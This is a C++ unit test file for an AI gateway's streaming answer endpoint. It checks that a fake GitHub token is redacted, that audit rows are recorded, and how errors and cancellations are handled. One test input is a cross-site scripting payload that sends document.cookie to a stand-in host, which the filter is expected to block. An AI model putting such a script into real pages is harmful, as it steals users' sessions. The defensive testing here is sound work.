// A model's answer as events, and what the audit log gets to know of it.
#include "gateway/endpoints/answer_stream.h"

#include <catch2/catch.hpp>

#include <deque>
#include <memory>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "absl/time/clock.h"
#include "gateway/engine_client/engine_cause.h"
#include "tests/unit/guardian/rule_matching.h"

namespace datamigrate::gateway {
namespace {

const std::string kToken = "ghp_" + guardian::RandomText(36, guardian::kBase62);

// Tells what it was told to, and then waits.
class ToldPieces : public AnswerPieces {
 public:
  explicit ToldPieces(std::deque<Next> told) : told_(std::move(told)) {}
  ~ToldPieces() override {
    if (waiting_) waiting_(absl::CancelledError("gone"));
  }
  void Read(std::function<void(Next)> done) override {
    if (told_.empty()) {
      waiting_ = std::move(done);
      return;
    }
    Next next = std::move(told_.front());
    told_.pop_front();
    done(std::move(next));
  }
  void Cancel() override {
    if (waiting_) std::exchange(waiting_, nullptr)(absl::CancelledError("cancelled"));
  }

 private:
  std::deque<Next> told_;
  std::function<void(Next)> waiting_;
};

class KeptLog : public AuditLog {
 public:
  bool Append(audit::Row row, Done done) override {
    if (is_full) return false;
    rows.push_back(std::move(row));
    if (done) done(outcome);
    return true;
  }

  bool is_full = false;
  absl::Status outcome;
  std::vector<audit::Row> rows;
};

AnswerPieces::Next Text(const std::string& text) {
  v1::StreamCompleteResponse message;
  message.set_text(text);
  return std::optional(message);
}

AnswerPieces::Next Restart(const std::string& model) {
  v1::StreamCompleteResponse message;
  message.set_restart(model);
  return std::optional(message);
}

AnswerPieces::Next Whole(const std::string& arguments = "") {
  v1::StreamCompleteResponse message;
  message.mutable_answer()->set_text("all of it");
  message.mutable_answer()->set_model("good");
  if (!arguments.empty()) message.mutable_answer()->add_tool_calls()->set_arguments(arguments);
  return std::optional(message);
}

struct Fixture {
  std::unique_ptr<BodyStream> Open(std::deque<AnswerPieces::Next> told) {
    Request request;
    request.path = "/api/v1/models/complete/stream";
    request.request_id = "r-1";
    request.principal = Principal{"u1", "o1", "s1"};
    request.received_at = absl::Now();
    return AnswerBody(
        std::make_unique<ToldPieces>(std::move(told)),
        AnswerFilter({&scanners, &scores}, std::make_shared<const Policy>(), request.received_at),
        AnswerRecord(keeps_log ? &log : nullptr, request), request);
  }

  // All that the stream says, until it ends or waits.
  std::string Read(BodyStream& stream) {
    std::string all;
    for (bool goes_on = true; goes_on;) {
      goes_on = false;
      stream.Next([&](BodyStream::Piece piece) {
        REQUIRE(piece.ok());
        goes_on = piece->has_value();
        if (goes_on) all += **piece;
      });
    }
    return all;
  }

  guardian::RuleBook rules = guardian::RuleBook::Compile().value();
  RuleScores scores = ScoresOf(rules);
  ScannerPool scanners{[this] {
    return std::make_unique<guardian::Scanner>(rules, guardian::LinearModel::BuiltIn());
  }};
  KeptLog log;
  bool keeps_log = true;
};

TEST_CASE("An answer is told as events, cut, and recorded before its end", "[gateway][answer]") {
  Fixture fixture;
  const auto stream =
      fixture.Open({Text("The token is "), Text(kToken.substr(0, 20)), Text(kToken.substr(20)),
                    Text("."), Whole("{\"to\":\"" + kToken + "\"}"), std::nullopt});
  const std::string told = fixture.Read(*stream);
  INFO(told);
  CHECK(told.find("event: text\ndata: {\"text\":\"The token is [secret.github_token].\"}\n\n") ==
        0);
  CHECK(told.find("\nevent: answer\ndata: {\"answer\":{\"text\":\"\",") != std::string::npos);
  CHECK(told.find("{\\\"to\\\":\\\"[secret.github_token]\\\"}") != std::string::npos);
  CHECK(told.find("ghp_") == std::string::npos);
  REQUIRE(fixture.log.rows.size() == 1);
  const audit::Row& row = fixture.log.rows[0];
  CHECK(row.action == "readModelAnswer");
  CHECK(row.organization_id == "o1");
  CHECK(row.object == "good");
  CHECK(row.status == 200);
  CHECK(row.verdict == "sanitize");
  CHECK(row.rules == "secret.github_token");
  CHECK(row.findings == "model_output:secret:2.00:secret.github_token");
  CHECK(row.request_id == "r-1");
}

TEST_CASE("An answer that begins anew is told so", "[gateway][answer]") {
  Fixture fixture;
  const auto stream = fixture.Open({Text("wrong"), Restart("other"), Text("right"), Whole()});
  const std::string told = fixture.Read(*stream);
  CHECK(told.find("wrong") == std::string::npos);  // it was still held
  CHECK(told.find("event: restart\ndata: {\"restart\":\"other\"}\n\n") == 0);
  CHECK(told.find("{\"text\":\"right\"}") != std::string::npos);
}

TEST_CASE("What goes wrong is the last event, with the problem", "[gateway][answer]") {
  Fixture fixture;
  const auto [last, status, words] = GENERATE(table<AnswerPieces::Next, int, std::string>({
      {WithCause(absl::ResourceExhaustedError("the budget \"tiny\" is spent"), "budget_spent"), 402,
       "the budget"},
      {WithCause(absl::UnavailableError("good: 503"), "all_failed"), 502, "good: 503"},
      {absl::UnavailableError("secret detail"), 503, "is away"},
      {std::nullopt, 502, "failed"},
      {Text("<script>fetch('//x.test/'+document.cookie)</script>" + std::string(700, '.')), 502,
       "held back (cross_site_scripting."},
  }));
  const auto stream = fixture.Open({Text("Well, "), last});
  const std::string told = fixture.Read(*stream);
  INFO(told);
  const size_t event = told.find("event: error\ndata: {");
  REQUIRE(event != std::string::npos);
  CHECK(told.find("\"status\":" + std::to_string(status), event) != std::string::npos);
  CHECK(told.find(words, event) != std::string::npos);
  CHECK(told.find("secret detail") == std::string::npos);
  CHECK(told.find("<script") == std::string::npos);
  REQUIRE(fixture.log.rows.size() == 1);
  CHECK(fixture.log.rows[0].status == status);
}

TEST_CASE("An answer that cannot be recorded has no end", "[gateway][answer]") {
  Fixture fixture;
  SECTION("the log is full") {
    fixture.log.is_full = true;
  }
  SECTION("the row is not stored") {
    fixture.log.outcome = absl::UnavailableError("away");
  }
  const auto stream = fixture.Open({Text("Well."), Whole()});
  const std::string told = fixture.Read(*stream);
  CHECK(told.find("event: error\n") == 0);
  CHECK(told.find("\"status\":503") != std::string::npos);
}

TEST_CASE("Without a log an answer ends all the same", "[gateway][answer]") {
  Fixture fixture;
  fixture.keeps_log = false;
  CHECK(fixture.Read(*fixture.Open({Text("Well."), Whole()})).find("event: answer\n") !=
        std::string::npos);
}

TEST_CASE("A stream that its reader leaves is recorded once", "[gateway][answer]") {
  Fixture fixture;
  SECTION("while nothing is read") {
    fixture.Open({Text("Well.")});
  }
  SECTION("while a piece is awaited") {
    auto stream = fixture.Open({Text("Well.")});
    int answers = 0;
    stream->Next([&](BodyStream::Piece) { ++answers; });
    stream->Next([&](BodyStream::Piece) { ++answers; });
    CHECK(answers == 1);
    stream.reset();
    CHECK(answers == 2);
  }
  REQUIRE(fixture.log.rows.size() == 1);
  CHECK(fixture.log.rows[0].status == 499);
}

}  // namespace
}  // namespace datamigrate::gateway
